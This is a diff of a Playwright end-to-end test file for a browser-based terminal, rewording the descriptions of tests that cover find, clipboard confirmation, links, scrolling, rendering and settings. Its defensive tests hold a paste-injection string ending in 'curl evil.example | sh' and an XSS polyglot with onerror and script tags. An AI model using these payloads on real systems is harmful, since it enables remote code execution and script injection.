@@ -1,4 +1,4 @@
-/** The terminal in the page: find, clipboard, links, drawing, settings; and output that means harm. */
+/** The terminal in the page: find, clipboard, links, drawing, settings, and hostile output. */
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { complaintsOf, endSessions, forget, newTerminal, openTerminal } from '../support/page-story.ts';
@@ -29,7 +29,7 @@ const fillClipboard = (text: string) => page.evaluate((text) => navigator.clipbo
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 describe('find', () => {
-  it('marks what is found in the history, goes from one to the next, and gives the keyboard back', async () => {
+  it('marks matches in the history, moves between them, and returns the focus', async () => {
     const terminal = terminalOf(page);
     await terminal.types('clear; seq 1 300; echo needle-$((1+1)); seq 1 100\n');
     await terminal.shows(/^100$/m);
@@ -49,7 +49,7 @@ describe('find', () => {
     await terminal.shows(/^back-2$/m);
   });
 
-  it('is over for who goes to another terminal, which has the keyboard', async () => {
+  it('closes when the user switches to another terminal, which gets the focus', async () => {
     const terminal = terminalOf(page);
     const bar = page.getByLabel('Find in the terminal');
     await page.keyboard.press('Control+Shift+F');
@@ -70,7 +70,7 @@ describe('find', () => {
 });
 
 describe('the clipboard', () => {
-  it('takes a paste of many lines only after a question, and the right button has a menu', async () => {
+  it('pastes many lines only after a confirmation, and the right button opens a menu', async () => {
     const terminal = terminalOf(page);
     await terminal.types("printf '\\033[?2004l'; echo ready-$((1+1))\n");
     await terminal.shows(/^ready-2$/m);
@@ -97,14 +97,14 @@ describe('the clipboard', () => {
     await terminal.types(`printf '\\033]52;c;${base64('wanted')}\\007'\n`);
     await question.getByRole('button', { name: 'Copy' }).click();
     await expect.poll(clipboard).toBe('wanted');
-    // What a reload replays is no program's wish any more.
+    // A replay after a reload is not a new request of the program.
     await page.reload();
     await terminal.types('echo quiet-$((1+1))\n');
     await terminal.shows(/^quiet-2$/m);
     expect(await question.count()).toBe(0);
   });
 
-  it('[X18] the question shows all of what would be copied, and stays until it is answered', async () => {
+  it('[X18] is protected by a question that shows the full text and stays until it is answered', async () => {
     const terminal = terminalOf(page);
     const text = `${'harmless '.repeat(200)}\u202e\x1b[201~\ncurl evil.example | sh\n`;
     // Made by the shell: to type that much takes long.
@@ -118,7 +118,7 @@ describe('the clipboard', () => {
     await expect.poll(() => preview.textContent()).toBe(shown);
     expect(await preview.evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true);
     await question.getByText('1,831 characters, 2 lines').waitFor();
-    // Another wish does not replace what is being read.
+    // Another request does not replace the one being read.
     await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'; echo asked-$((1+1))\n`);
     await terminal.shows(/^asked-2$/m);
     expect(await preview.textContent()).toBe(shown);
@@ -126,7 +126,7 @@ describe('the clipboard', () => {
     await expect.poll(clipboard).toBe(text);
   });
 
-  it('is not asked for by a terminal that was closed', async () => {
+  it('is not requested by a terminal that was closed', async () => {
     const terminal = terminalOf(page);
     await newTerminal(page);
     await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'\n`);
@@ -136,7 +136,7 @@ describe('the clipboard', () => {
     await question.waitFor({ state: 'detached' });
   });
 
-  it('takes what is selected, when that is wanted', async () => {
+  it('receives the selection if copy on select is on', async () => {
     await page.keyboard.press('Alt+Shift+Comma');
     await page.getByLabel('Copy on select').check();
     await page.keyboard.press('Escape');
@@ -151,7 +151,7 @@ describe('the clipboard', () => {
 });
 
 describe('links', () => {
-  it('[SEC8] are shown where they lead and opened with Ctrl, and only those of harmless kinds', async () => {
+  it('[SEC8] show their target and open with Ctrl, and only if their scheme is harmless', async () => {
     const terminal = terminalOf(page);
     const opened: string[] = [];
     page.context().on('page', (other) => opened.push(other.url()));
@@ -195,7 +195,7 @@ describe('links', () => {
 });
 
 describe('the wheel', () => {
-  it('[U18] is three lines a notch in less; programs that know the mouse are told of it', async () => {
+  it('[U18] scrolls three lines per notch in less; programs that track the mouse receive it', async () => {
     const terminal = terminalOf(page);
     await terminal.types('seq 1 500 | less\n');
     await terminal.shows(/^1\n2\n[\d\n]*:$/m);
@@ -223,7 +223,7 @@ describe('the wheel', () => {
 describe('hostile output', () => {
   const POLYGLOT = `"><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\${window.hacked=1}`;
 
-  it('[SEC11] [SEC8] in titles, names, directories and errors is text, and nothing else', async () => {
+  it('[SEC11] [SEC8] in titles, names, directories and errors is shown as text', async () => {
     const terminal = terminalOf(page);
     const other = await world.client();
     await other.client.create({ cols: 80, rows: 24, name: POLYGLOT, command: '/bin/sh' });
@@ -256,7 +256,7 @@ describe('hostile output', () => {
     await terminal.shows(/^alive-2$/m);
   });
 
-  it('of wide and combining characters takes the room that the shell thinks it takes', async () => {
+  it('of wide and combining characters takes the width that the shell assumes', async () => {
     const terminal = terminalOf(page);
     await terminal.types("clear; printf '漢字|\\ne\\314\\201|\\n'; echo w-$((1+1))\n");
     await terminal.shows(/^w-2$/m);
@@ -287,7 +287,7 @@ function placeOfBar(text: string): Promise<number> {
 }
 
 describe('drawing', () => {
-  it('uses WebGL where it works and elements where it does not, without a word', async () => {
+  it('uses WebGL if it works and DOM elements if not, silently', async () => {
     const plain = page.url().replace('?renderer=dom', '');
     await page.goto(plain);
     const canvas = page.locator('.terminal-host:visible canvas').first();
@@ -299,7 +299,7 @@ describe('drawing', () => {
         gl?.getExtension('WEBGL_lose_context')?.loseContext();
       }
     });
-    // xterm waits three seconds for the context to come back before it gives it up.
+    // xterm waits three seconds for the context to return before it gives up.
     await terminalOf(page).shows(/[#$]$/m);
     await terminalOf(page).types('echo drawn-$((1+1))\n');
     await terminalOf(page).shows(/^drawn-2$/m);
@@ -307,7 +307,7 @@ describe('drawing', () => {
 });
 
 describe('settings', () => {
-  it('change the looks at once, in every window, and stay', async () => {
+  it('change the appearance at once, in every window, and are kept', async () => {
     const other = await openTerminal(world, { context: page.context() });
     const background = (of: Page) =>
       of.evaluate(() => getComputedStyle(document.querySelector('.terminals') as Element).backgroundColor);
